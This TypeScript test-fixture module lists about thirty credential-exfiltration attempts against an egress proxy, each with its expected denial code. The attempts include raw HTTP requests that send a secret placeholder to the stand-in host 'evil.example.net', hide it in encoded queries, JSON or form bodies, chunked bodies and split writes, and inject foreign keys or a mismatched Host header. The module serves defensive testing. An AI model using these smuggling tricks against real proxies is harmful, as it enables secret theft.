/**
 * Attacks on credentials that the proxy itself has to withstand, for tests.
 *
 * @module
 */

import { endpointOf, httpRuleOf, ruleOf } from "../../../policy-wasm/fixtures.ts";
import type { Endpoint, Rule } from "../../../policy-wasm/policy.ts";

export const API = "api.example.com";
export const EVIL = "evil.example.net";
export const BUCKET = "b.s3.eu-west-1.amazonaws.com";
export const TOKEN = "openshell:resolve:env:TOKEN";
export const ANY = { allow: [httpRuleOf({ method: "*" })] };

/** The API fills bodies only where `filled` says so; the other host is allowed too. */
export function rulesFor(change: Partial<Endpoint> = {}): readonly Rule[] {
  const ports = [80, 443];
  const signed = { credentialSigning: "sigv4", signingService: "s3" } as const;
  return [
    ruleOf({
      endpoints: [
        endpointOf({ host: API, ports, ...ANY, ...change }),
        endpointOf({ host: EVIL, ports, ...ANY }),
        endpointOf({ host: "*.s3.eu-west-1.amazonaws.com", ...ANY, ...signed }),
      ],
    }),
  ];
}

export function request(
  headers: string,
  { method = "GET", path = "/", host = API, body = "" } = {},
): string {
  const framing = method === "POST"
    ? `Content-Length: ${new TextEncoder().encode(body).length}\r\n`
    : "";
  return `${method} ${path} HTTP/1.1\r\nHost: ${host}\r\n${framing}${headers}\r\n${body}`;
}

export interface Attack {
  readonly id: string;
  readonly host?: string;
  readonly pieces: readonly string[];
  readonly want: string;
  readonly hasFinding?: boolean;
  readonly change?: Partial<Endpoint>;
  /** A part of the request may have gone, as long as the placeholder has not. */
  readonly isBegun?: boolean;
}

const ENCODED = "openshell%3Aresolve%3Aenv%3ATOKEN";
export const POST = { method: "POST" };
export const FILLED = { requestBodyCredentialRewrite: true };
export const JSON_TYPE = "Content-Type: application/json\r\n";
const FORM_TYPE = "Content-Type: application/x-www-form-urlencoded\r\n";

function chunked(type: string, chunks: readonly string[], end = "0\r\n\r\n"): readonly string[] {
  const head = `POST / HTTP/1.1\r\nHost: ${API}\r\nTransfer-Encoding: chunked\r\n${type}\r\n`;
  return [head, ...chunks.map((text) => `${text.length.toString(16)}\r\n${text}\r\n`), end];
}

export const ATTACKS: readonly Attack[] = [
  {
    id: "placeholder-at-another-allowed-host",
    host: EVIL,
    pieces: [request(`Authorization: Bearer ${TOKEN}\r\n`, { host: EVIL })],
    want: "credential_endpoint_mismatch",
  },
  {
    id: "placeholder-in-a-path-of-another-host",
    host: EVIL,
    pieces: [request("", { host: EVIL, path: `/${TOKEN}` })],
    want: "credential_endpoint_mismatch",
  },
  {
    id: "placeholder-in-a-query-of-another-host",
    host: EVIL,
    pieces: [request("", { host: EVIL, path: `/?a=${ENCODED}` })],
    want: "credential_endpoint_mismatch",
  },
  {
    id: "placeholder-in-a-query-name",
    pieces: [request("", { path: `/?${TOKEN}=1` })],
    want: "credential_misplaced",
  },
  {
    id: "placeholder-in-a-header-name",
    pieces: [request("X-OPENSHELL-RESOLVE-ENV-TOKEN: 1\r\n")],
    want: "credential_misplaced",
  },
  {
    id: "placeholder-in-another-case",
    pieces: [request("X-Api-Key: OPENSHELL:Resolve:env:TOKEN\r\n")],
    want: "credential_misplaced",
  },
  {
    id: "placeholder-encoded-twice",
    pieces: [request("", { path: `/?a=${ENCODED.replaceAll("%", "%25")}` })],
    want: "credential_misplaced",
  },
  {
    id: "placeholder-in-basic-for-another-host",
    host: EVIL,
    pieces: [request(`Authorization: Basic ${btoa(`x:${TOKEN}`)}\r\n`, { host: EVIL })],
    want: "credential_endpoint_mismatch",
  },
  {
    id: "placeholder-in-a-json-body",
    pieces: [request(JSON_TYPE, { ...POST, body: `{"a":"${TOKEN}"}` })],
    want: "credential_misplaced",
  },
  {
    id: "placeholder-in-a-binary-body",
    pieces: [request("Content-Type: image/png\r\n", { ...POST, body: `\x89PNG\0\x01${TOKEN}` })],
    want: "credential_misplaced",
  },
  {
    id: "placeholder-in-chunks-of-a-letter-each",
    pieces: chunked(JSON_TYPE, [...`{"a":"${TOKEN}"}`]),
    want: "credential_misplaced",
    isBegun: true,
  },
  {
    id: "placeholder-split-over-writes",
    pieces: [
      request("", { ...POST, body: `${"x".repeat(999)}${TOKEN}` }).slice(0, -12),
      TOKEN.slice(-12),
    ],
    want: "credential_misplaced",
    isBegun: true,
  },
  {
    id: "placeholder-encoded-in-a-form",
    pieces: [request(FORM_TYPE, { ...POST, body: `a=${ENCODED}` })],
    want: "credential_misplaced",
  },
  {
    id: "placeholder-escaped-in-json",
    pieces: [
      request(JSON_TYPE, { ...POST, body: `{"a":"${TOKEN.replaceAll(":", "\\u003a")}"}` }),
    ],
    want: "credential_misplaced",
  },
  {
    id: "placeholder-of-another-host-in-a-filled-body",
    change: FILLED,
    pieces: [
      request(JSON_TYPE, { ...POST, body: '{"a":"openshell:resolve:env:AWS_SESSION_TOKEN"}' }),
    ],
    want: "credential_endpoint_mismatch",
  },
  {
    id: "placeholder-as-a-key-of-json",
    change: FILLED,
    pieces: [request(JSON_TYPE, { ...POST, body: `{"${TOKEN}"${" ".repeat(200)}:1}` })],
    want: "credential_misplaced",
  },
  {
    id: "placeholder-as-a-name-in-a-form",
    change: FILLED,
    pieces: [request(FORM_TYPE, { ...POST, body: `${ENCODED}=1` })],
    want: "credential_misplaced",
  },
  {
    id: "trailers-behind-a-filled-body",
    change: FILLED,
    pieces: chunked(JSON_TYPE, ["{}"], "0\r\nX-Api-Key: theirs\r\n\r\n"),
    want: "credential_misplaced",
  },
  {
    id: "placeholder-in-json-that-is-none",
    change: FILLED,
    pieces: [request(JSON_TYPE, { ...POST, body: `{'a':'${TOKEN}'}` })],
    want: "credential_misplaced",
  },
  {
    id: "a-body-of-placeholders-without-end",
    change: FILLED,
    pieces: chunked(JSON_TYPE, Array.from({ length: 80 }, () => "x".repeat(4096))),
    want: "request_too_large",
    hasFinding: false,
  },
  {
    id: "foreign-key-to-an-allowed-host",
    pieces: [request("X-Api-Key: sk-attacker\r\n")],
    want: "foreign_credential",
  },
  {
    id: "foreign-key-with-an-underscore",
    pieces: [request("X_Api_Key: sk-attacker\r\n")],
    want: "foreign_credential",
  },
  {
    id: "foreign-key-beside-ours",
    pieces: [request(`Authorization: Bearer ${TOKEN}\r\nAuthorization: Bearer theirs\r\n`)],
    want: "foreign_credential",
  },
  {
    id: "foreign-user-beside-our-password",
    pieces: [request(`Authorization: Basic ${btoa(`ghp_attacker:${TOKEN}`)}\r\n`)],
    want: "foreign_credential",
  },
  {
    id: "foreign-signature-in-the-url",
    host: BUCKET,
    pieces: [request("", { host: BUCKET, path: "/o?X-Amz-Credential=AKIA&X-Amz-Signature=0a" })],
    want: "foreign_credential",
  },
  {
    id: "an-upload-in-chunks-signed-by-another",
    host: BUCKET,
    pieces: [
      request("X-Amz-Content-Sha256: STREAMING-AWS4-HMAC-SHA256-PAYLOAD\r\n", {
        ...POST,
        host: BUCKET,
        body: "x",
      }),
    ],
    want: "credential_misplaced",
  },
  {
    id: "keys-of-aws-in-the-clear",
    pieces: [request("X-Api-Key: openshell:resolve:env:AWS_SECRET_ACCESS_KEY\r\n")],
    want: "credential_endpoint_mismatch",
  },
  {
    id: "a-handle-of-a-former-epoch",
    pieces: [request(`X-Api-Key: openshell:resolve:env:s${"ff".repeat(32)}_ROTATING\r\n`)],
    want: "credential_unknown",
    hasFinding: false,
  },
  {
    id: "host-header-of-the-credentials-place",
    host: EVIL,
    pieces: [request(`X-Api-Key: ${TOKEN}\r\n`, { host: API })],
    want: "request_authority_mismatch",
    hasFinding: false,
  },
  {
    id: "placeholder-in-the-host-header",
    pieces: [request("", { host: TOKEN })],
    want: "request_authority_mismatch",
    hasFinding: false,
  },
];
